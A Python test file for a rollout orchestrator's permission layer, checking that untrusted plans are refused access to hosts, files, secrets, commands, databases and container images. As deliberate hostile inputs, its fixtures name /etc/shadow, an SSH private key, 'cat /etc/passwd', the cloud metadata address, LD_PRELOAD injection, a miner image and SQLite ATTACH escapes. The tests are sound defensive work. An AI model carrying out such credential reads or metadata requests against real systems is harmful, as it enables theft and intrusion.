"""What plans may name that are not the owner's: told at the start with the place, and again at the call."""

from __future__ import annotations

import asyncio
import socket
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import apsw
import psycopg.conninfo
import pytest
import pytest_asyncio

from orchestrator.adapters.http_client import HttpClient
from orchestrator.adapters.process import ProcessRunner
from orchestrator.adapters.secrets import Secrets
from orchestrator.adapters.sql import Databases, SqlReader
from orchestrator.allowance import Allowance, Trust, acting_for
from orchestrator.errors import Permanent, Temporary, UsageError
from orchestrator.plan_limits import refusals
from orchestrator.ports import Scene
from stages.checks import HttpRequest
from stages.load import LoadedPlan, load_plan
from stages.values import SecretRef
from tests.support.http_server import ScriptedServer
from tests.support.postgres import PostgresServer

USUAL = Allowance()
JOB = """\
apiVersion: batch/v1
kind: Job
metadata: {name: copy}
spec: {template: {spec: {containers: [{name: main, image: evil/miner}], restartPolicy: Never}}}
"""
PLAN = """\
apiVersion: stagedrollout.io/v1alpha1
kind: StagedRollout
metadata: {name: greedy}
spec:
  prometheus: {url: "https://metrics.evil.example/", tls: {ca: /etc/shadow}, bearer: {env: ROLLOUT_STORE}}
  database: "postgresql://shop@db.evil.example/shop"
  commands: {vars: {LD_PRELOAD: /tmp/x.so}}
  checks:
    - {name: env, env: HOME, required: false}
    - {name: file, file: /root/.ssh/id_rsa, required: false}
    - {name: script, script: "cat /etc/passwd", required: false}
    - {name: lite, sql: SELECT 1, database: "sqlite:////var/lib/other.db", required: false}
    - {name: page, http: {url: "http://169.254.169.254/latest", headers: {X-A: {secret: other/key}}}, required: false}
  stages:
    - name: go
      kind: steps
      steps:
        - {command: [/bin/cat, /etc/shadow], undo: none}
        - {job: job.yaml, undo: none}
"""


def loaded(text: str = PLAN) -> LoadedPlan:
    return load_plan(text, "plan.yaml", {}, (), read_file=lambda _: JOB.encode())


def test_every_place_of_a_plan_is_told_with_the_setting_that_would_allow_it() -> None:
    plan = loaded()
    allowance = Allowance(hosts=("*.example.org",), images=("registry.example.org/*",))
    told = dict(refusals(plan.documents, plan.files, allowance))
    settings = {
        "spec.prometheus.url": "hosts",
        "spec.prometheus.tls.ca": "folders",
        "spec.prometheus.bearer": "variables",
        "spec.database": "hosts",
        "spec.commands.vars.LD_PRELOAD": "leave it out",
        "spec.checks[0].env": "variables",
        "spec.checks[1].file": "folders",
        "spec.checks[2].script": "scripts: true",
        "spec.checks[3].database": "folders",
        "spec.checks[4].http.url": "hosts",
        "spec.checks[4].http.headers.X-A": "secrets",
        "spec.stages[0].steps[0].command": "commands",
        "spec.stages[0].steps[1].job": "images",
    }
    assert told.keys() == settings.keys()
    assert not {path for path, setting in settings.items() if setting not in told[path]}


def test_a_plan_of_whoever_runs_the_controller_is_free() -> None:
    plan = loaded()
    with acting_for(Trust.OWNER):
        assert refusals(plan.documents, plan.files, Allowance(hosts=(), images=())) == []


def test_without_a_word_about_it_hosts_are_free_and_what_is_the_controllers_own_is_not() -> None:
    plan = loaded()
    told = {path for path, _ in refusals(plan.documents, plan.files, USUAL)}
    assert "spec.prometheus.url" not in told
    assert {"spec.prometheus.bearer", "spec.stages[0].steps[0].command", "spec.checks[1].file"} <= told


async def test_what_is_begun_for_a_plan_is_done_for_it_also_in_its_tasks_and_threads() -> None:
    with acting_for(Trust.OWNER):
        task = asyncio.create_task(asyncio.to_thread(USUAL.variable, "HOME"))
    assert await task is None
    assert USUAL.variable("HOME") is not None


@pytest.mark.parametrize(
    ("text", "words"),
    (
        ("hosts: [a]\nhots: [b]\n", "hots: Extra inputs"),
        ("folders: [plans]\n", "plans is relative"),
        ("hosts: {a: b}\n", "hosts"),
        ("- a\n", "the document"),
        ("hosts: [a\n", "allow.yaml:"),
        ("\xff", "not UTF-8"),
    ),
)
def test_a_file_that_can_not_be_used_is_told_before_anything_is_served(tmp_path: Path, text: str, words: str) -> None:
    file = tmp_path / "allow.yaml"
    file.write_bytes(text.encode("latin-1"))
    with pytest.raises(UsageError, match=words):
        Allowance.read(file)


def test_a_file_says_what_it_says_and_the_rest_is_as_usual(tmp_path: Path) -> None:
    file = tmp_path / "allow.yaml"
    file.write_text("commands: [alembic, /opt/tools/*]\nhosts: [10.0.0.0/8, db]\n")
    found = Allowance.read(file)
    assert (found.commands, found.variables) == (("alembic", "/opt/tools/*"), ("PLAN_*",))
    assert found.command("/opt/tools/deploy") is None
    assert "plans may not run sh" in str(found.command("sh"))


# --- at the call ------------------------------------------------------------------------------------------------------


@pytest_asyncio.fixture
async def server() -> AsyncIterator[ScriptedServer]:
    async with ScriptedServer() as server:
        yield server


def elsewhere(monkeypatch: pytest.MonkeyPatch, address: str) -> None:
    """Every name is at *address* from now on."""

    def look_up(host: str, port: int, **_: Any) -> list[Any]:
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (address, port))]

    monkeypatch.setattr(socket, "getaddrinfo", look_up)


async def send(url: str, allowance: Allowance) -> int:
    return (await HttpClient(Secrets(allowance)).request(HttpRequest(url=url, timeout=5.0))).status


async def test_a_name_that_leads_elsewhere_when_it_is_called_is_not_called(
    server: ScriptedServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    within = Allowance(hosts=("127.0.0.0/8",))
    elsewhere(monkeypatch, "127.0.0.1")
    assert within.host("service.example.org") is None, "where it is shows when it is called"
    assert await send(f"http://service.example.org:{server.port}/", within) == 200
    elsewhere(monkeypatch, "192.0.2.7")
    with pytest.raises(Permanent, match=r"plans may not call service\.example\.org"):
        await send(f"http://service.example.org:{server.port}/", within)
    elsewhere(monkeypatch, "169.254.169.254")
    with pytest.raises(Permanent, match="link-local or metadata"):
        await send("http://service.example.org/", Allowance(hosts=("service.example.org",)))


@pytest.mark.parametrize("host", ("169.254.169.254", "[::ffff:169.254.169.254]", "[fd00:ec2::254]", "100.100.100.200"))
async def test_a_metadata_address_is_called_only_where_it_is_listed(host: str) -> None:
    for allowance in (USUAL, Allowance(hosts=("*", "10.0.0.0/8"))):
        with pytest.raises(Permanent, match="link-local or metadata"):
            await send(f"http://{host}/", allowance)
        with acting_for(Trust.OWNER), pytest.raises(Permanent, match="link-local or metadata"):
            await send(f"http://{host}/", allowance)
    assert Allowance(hosts=("169.254.169.254",)).address("metadata", _address("169.254.169.254")) is None


def _address(text: str) -> Any:
    import ipaddress

    return ipaddress.ip_address(text)


async def place(url: str, allowance: Allowance) -> str:
    return await Databases(Secrets(allowance)).url(url, None)


async def test_a_database_is_reached_at_the_addresses_that_were_checked(monkeypatch: pytest.MonkeyPatch) -> None:
    elsewhere(monkeypatch, "10.0.0.9")
    found = psycopg.conninfo.conninfo_to_dict(await place("postgresql+psycopg://a:p%40@db.example:5433/shop", USUAL))
    assert (found["host"], found["hostaddr"], found["port"]) == ("db.example", "10.0.0.9", "5433")
    assert (found["user"], found["password"], found["dbname"]) == ("a", "p@", "shop")
    assert found["passfile"] == "/dev/null", "the controller's own passwords are not lent"
    elsewhere(monkeypatch, "169.254.169.254")
    with pytest.raises(Permanent, match="link-local or metadata"):
        await place("postgresql://db.example/shop", USUAL)


async def test_the_controllers_own_password_is_not_lent_to_the_database_of_a_plan(
    postgres_server: PostgresServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    own = psycopg.conninfo.conninfo_to_dict(postgres_server.dsn())
    monkeypatch.setenv("PGPASSWORD", str(own["password"]))
    url = f"postgresql://postgres@127.0.0.1:{own['port']}/postgres"
    reader = SqlReader(Secrets(USUAL))
    with pytest.raises(Temporary, match="no password supplied"):
        await reader.fetch(url, "SELECT 1", 10.0)
    with acting_for(Trust.OWNER):
        assert list(await reader.fetch(url, "SELECT 1", 10.0)) == [(1,)]


@pytest.mark.parametrize(
    ("url", "words"),
    (
        ("postgresql://db.example/shop", "plans may not call db.example"),
        ("postgresql://127.0.0.1,db.example/shop", "plans may not call db.example"),
        ("postgresql://127.0.0.1/shop?host=db.example", "plans may not call db.example"),
        ("postgresql://127.0.0.1/shop?hostaddr=192.0.2.1", "the parameter hostaddr"),
        ("postgresql://127.0.0.1/shop?passfile=/etc/shadow", "the parameter passfile"),
        ("postgresql://127.0.0.1/shop?sslkey=/root/key", "the parameter sslkey"),
        ("postgresql://127.0.0.1/shop?service=own", "the parameter service"),
        ("postgresql:///shop?host=/var/run/postgresql", "a socket of the controller's machine"),
        ("postgresql:///shop", "a socket of the controller's machine"),
        ("sqlite:////etc/passwd", "plans may not read the file /etc/passwd"),
    ),
)
async def test_a_database_that_plans_may_not_name_is_not_reached(url: str, words: str) -> None:
    with pytest.raises(Permanent, match=words):
        await place(url, Allowance(hosts=("127.0.0.1",)))
    with acting_for(Trust.OWNER):
        assert await place(url, Allowance(hosts=("127.0.0.1",))) == url


async def test_sql_in_a_file_that_plans_may_name_reaches_no_other_file(tmp_path: Path) -> None:
    inside, outside = tmp_path / "inside", tmp_path / "outside.db"
    inside.mkdir()
    databases, url = Databases(Secrets(Allowance(folders=(inside,)))), f"sqlite:///{inside}/own.db"
    apsw.Connection(str(inside / "own.db")).execute("CREATE TABLE own (id)").close()

    async def ask(sql: str) -> list[tuple[Any, ...]]:
        return await databases.call(databases.fetch(await databases.url(url, None), None, sql, 5.0))

    assert await ask("SELECT count(*) FROM own") == [(0,)]
    attach = f"ATTACH '{outside}' AS other"
    put_together = f"ATTACH '{tmp_path}' || '/outside.db' AS other"
    for sql in (attach, put_together, f"VACUUM INTO '{outside}'", f"PRAGMA temp_store_directory = '{tmp_path}'"):
        with pytest.raises(Permanent, match="may reach no other file"):
            await ask(sql)
    assert not outside.exists()
    apsw.Connection(str(outside)).execute("CREATE TABLE other (id)").close()
    with acting_for(Trust.OWNER):
        assert await ask(attach) == []


async def test_a_command_is_run_only_where_its_first_word_is_listed(tmp_path: Path) -> None:
    runner = ProcessRunner(tmp_path, Secrets(Allowance(commands=("echo",))))
    scene = Scene(run="run", environment="production", directory=str(tmp_path))
    assert (await runner.run(["echo", "hello"], scene, None, {}, 10.0)).stdout == "hello\n"
    with pytest.raises(Permanent, match="plans may not run cat"):
        await runner.run(["cat", "/etc/passwd"], scene, None, {}, 10.0)
    with pytest.raises(Permanent, match="plans may run no scripts"):
        await runner.run([], scene, None, {}, 10.0, script="cat /etc/passwd")
    with pytest.raises(Permanent, match="the variable PATH"):
        await runner.run(["echo"], scene, None, {"PATH": "/tmp"}, 10.0)


def test_a_secret_of_kubernetes_is_its_authors_business_where_a_cluster_asked_for_it() -> None:
    with pytest.raises(Permanent, match="plans may not use the secret shop/key of Kubernetes"):
        Secrets(USUAL).resolve(SecretRef(secret="shop/key"))
    with acting_for(Trust.CLUSTER), pytest.raises(Permanent, match="is in Kubernetes, which is not asked here"):
        Secrets(USUAL).resolve(SecretRef(secret="shop/key"))
